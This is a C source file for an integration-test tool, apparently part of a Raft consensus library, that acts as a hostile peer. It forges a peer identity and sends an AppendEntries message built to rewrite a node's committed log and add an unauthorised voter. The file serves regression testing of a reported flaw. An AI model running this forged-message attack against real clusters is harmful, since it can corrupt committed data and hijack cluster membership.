/*
 * A hostile peer for the integration tier (issue 15, finding 1): connects
 * to a node's port, sends the peer CONNECT claiming an id of its choice,
 * and one AppendEntries built to rewrite the committed log, then waits a
 * little and closes. It owns nothing but that one connection.
 *
 *   raft-attack HOST:PORT CLAIMED_ID TO_ID TERM N_ENTRIES
 *
 * N_ENTRIES 0: an empty AppendEntries (the heartbeat that used to depose a
 * leader). Otherwise N_ENTRIES - 1 barriers and a configuration adding
 * voter 666, all at TERM, after prev_index 0, with commit = N_ENTRIES.
 * Exit 0 once the bytes are written (what the node did is for the caller
 * to check), 1 on a usage or connection error.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "lib/alloc.h"
#include "lib/buf.h"
#include "raft/raft.h"
#include "raftio/frame.h"

#define ATTACK_MAX_ENTRIES 64

static int attackConnect(const char *address)
{
    char host[64];
    const char *colon = strrchr(address, ':');
    struct sockaddr_in sa = {.sin_family = AF_INET};
    if (colon == NULL || (size_t)(colon - address) >= sizeof host) {
        return -1;
    }
    memcpy(host, address, (size_t)(colon - address));
    host[colon - address] = '\0';
    sa.sin_port = htons((uint16_t)atoi(colon + 1));
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1) {
        return -1;
    }
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
        if (fd >= 0) {
            close(fd);
        }
        return -1;
    }
    return fd;
}

/* The forged message: see the header comment. */
static int attackMessage(struct buf *out, uint64_t from, uint64_t to,
                         uint64_t term, unsigned n)
{
    struct raft_entry entries[ATTACK_MAX_ENTRIES];
    struct raft_configuration conf;
    struct raft_message m = {
        .type = RAFT_MSG_APPEND, .from = from, .to = to, .term = term};
    uint8_t *body;
    size_t len;
    raftConfInit(&conf);
    if (n > 0) {
        for (unsigned i = 0; i + 1 < n; i++) {
            entries[i] = (struct raft_entry){term, RAFT_BARRIER, NULL, 0};
        }
        entries[n - 1] = (struct raft_entry){term, RAFT_CHANGE, NULL, 0};
        if (raftConfAdd(&conf, 666, "127.0.0.1:1", RAFT_VOTER) != 0 ||
            raftConfEncodePayload(&conf, &entries[n - 1].data,
                                  &entries[n - 1].len) != 0) {
            return -1;
        }
        m.append = (struct raft_append){0, 0, n, 0, entries, n};
    }
    int rv = raftMessageEncode(&m, &body, &len);
    if (n > 0) {
        raftPayloadUnref(entries[n - 1].data);
    }
    raftConfClose(&conf);
    if (rv != 0) {
        return -1;
    }
    rv = frameEncode(out, body, len);
    libFree(body);
    return rv;
}

int main(int argc, char **argv)
{
    struct raftio_handshake hs = {0};
    struct buf out;
    if (argc != 6 || atoi(argv[5]) < 0 || atoi(argv[5]) > ATTACK_MAX_ENTRIES) {
        fprintf(stderr, "usage: raft-attack HOST:PORT CLAIMED_ID TO_ID TERM "
                        "N_ENTRIES (<= 64)\n");
        return 1;
    }
    hs.node_id = strtoull(argv[2], NULL, 10);
    snprintf(hs.address, sizeof hs.address, "127.0.0.1:1");
    bufInit(&out);
    if (frameEncodeHandshake(&out, &hs) != 0 ||
        attackMessage(&out, hs.node_id, strtoull(argv[3], NULL, 10),
                      strtoull(argv[4], NULL, 10),
                      (unsigned)atoi(argv[5])) != 0) {
        fprintf(stderr, "raft-attack: cannot encode\n");
        bufFree(&out);
        return 1;
    }
    int fd = attackConnect(argv[1]);
    if (fd < 0) {
        fprintf(stderr, "raft-attack: cannot connect to %s\n", argv[1]);
        bufFree(&out);
        return 1;
    }
    bool sent = write(fd, out.data, out.len) == (ssize_t)out.len;
    usleep(300 * 1000); /* let the node read it before the close */
    close(fd);
    bufFree(&out);
    return sent ? 0 : 1;
}
